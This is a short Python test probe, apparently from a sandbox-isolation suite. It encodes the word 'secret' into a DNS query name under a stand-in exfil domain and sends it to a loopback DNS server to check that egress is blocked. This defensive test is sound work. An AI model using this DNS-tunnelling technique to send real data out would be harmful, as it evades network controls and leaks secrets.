# hostile: egress | data smuggled in a DNS query, sent by hand to a DNS server on the host's loopback
# expect: exit=73 status=error
# control: docker -network +network=host exit=42
# check: listener
import socket
import struct

from _probe import params, verdict

name = b"".join(bytes([len(label)]) + label for label in (b"c2VjcmV0", b"exfil", b"sandshim", b"test"))
query = struct.pack(">HHHHHH", 0x5A5A, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">HH", 1, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(3)
    try:
        s.connect(("127.0.0.1", int(params()["DNS_PORT"])))
        s.send(query)
        answer = s.recv(512)
    except OSError as e:
        verdict(False, e.strerror or str(e))
verdict(answer[:2] == b"\x5a\x5a", "the DNS server answered the query")
